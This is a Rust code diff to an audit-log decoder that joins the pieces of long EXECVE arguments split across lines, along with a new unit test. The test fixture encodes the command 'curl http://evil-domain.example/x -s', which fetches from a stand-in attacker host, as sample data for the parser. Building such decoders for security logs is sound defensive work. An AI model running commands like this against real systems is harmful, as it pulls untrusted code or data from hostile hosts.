@@ -119,10 +119,12 @@ impl RecordReader for Reader {
 
     fn decoded(&self, record: &[u8], each: &mut dyn FnMut(&Decoded)) {
         let mut text = Decoded::default();
+        let mut command = Decoded::default();
         for line in record.split(|b| *b == b'\n') {
             let at = line.as_ptr().addr() - record.as_ptr().addr();
-            decode_line(line, at, &mut text);
+            decode_line(line, at, &mut command, &mut text);
         }
+        put_down(&mut command, &mut text);
         if !text.text.is_empty() {
             each(&text);
         }
@@ -197,14 +199,17 @@ fn shown_by(kind: &[u8], rest: &[u8]) -> Kinds {
     }
 }
 
-/// Writes what a line holds in digits, and the arguments of a command as one command line.
-fn decode_line(line: &[u8], at: usize, out: &mut Decoded) {
+/// Writes what a line holds in digits, and adds its arguments to the command line, which goes on over the lines of an
+/// event: a long argument is told in pieces, `a1[0]` on one line and `a1[1]` on the next.
+fn decode_line(line: &[u8], at: usize, command: &mut Decoded, out: &mut Decoded) {
     let Some(cut) = cut(line) else { return };
     let execve = cut.kind == b"EXECVE";
     let place = |value: &[u8]| at + (value.as_ptr().addr() - line.as_ptr().addr());
-    let mut command = Decoded::default();
     for (key, value) in fields(cut.rest) {
         if execve && is_argument(key) {
+            if matches!(key, b"a0" | b"a0[0]") {
+                put_down(command, out);
+            }
             // `a1[0]`, `a1[1]` are the pieces of one long argument.
             let continued = key.ends_with(b"]") && !key.ends_with(b"[0]");
             if !command.text.is_empty() && !continued {
@@ -234,14 +239,20 @@ fn decode_line(line: &[u8], at: usize, out: &mut Decoded) {
             out.text.push(b'\n');
         }
     }
+}
+
+/// Ends the command line: it is a line of its own.
+fn put_down(command: &mut Decoded, out: &mut Decoded) {
+    let command = std::mem::take(command);
+    if command.text.is_empty() {
+        return;
+    }
     let start = out.text.len();
     for (from, origin) in command.origins {
         out.origins.push((start + from, origin));
     }
-    if !command.text.is_empty() {
-        out.text.append(&mut command.text);
-        out.text.push(b'\n');
-    }
+    out.text.extend(command.text);
+    out.text.push(b'\n');
 }
 
 fn is_argument(key: &[u8]) -> bool {
@@ -381,6 +392,33 @@ mod tests {
         ] {
             assert_eq!(line(kind, rest), want, "{kind} {rest}");
         }
+    }
+
+    #[test]
+    fn the_pieces_of_an_argument_are_joined_over_lines() {
+        let line = |rest: &str| format!("node=n type=EXECVE msg=audit(1770091506.123:7): {rest}\n");
+        let hex = |text: &str| -> String { text.bytes().map(|b| format!("{b:02X}")).collect() };
+        let pieces = [
+            line(&format!(
+                "argc=3 a0=\"curl\" a1_len=40 a1[0]={}",
+                hex("http://evil-")
+            )),
+            line(&format!("a1[1]={} a2=\"-s\"", hex("domain.example/x"))),
+        ];
+        assert_eq!(
+            decoded(&pieces.concat()),
+            "curl http://evil-domain.example/x -s\n"
+        );
+        let quoted = [
+            line("argc=2 a0=\"curl\" a1_len=40 a1[0]=\"http://evil-\""),
+            line("a1[1]=\"domain.example/x\""),
+        ];
+        assert_eq!(
+            decoded(&quoted.concat()),
+            "curl http://evil-domain.example/x\n"
+        );
+        let two = [line("argc=1 a0=\"ls\""), line("argc=1 a0=\"id\"")];
+        assert_eq!(decoded(&two.concat()), "ls\nid\n");
     }
 
     #[test]
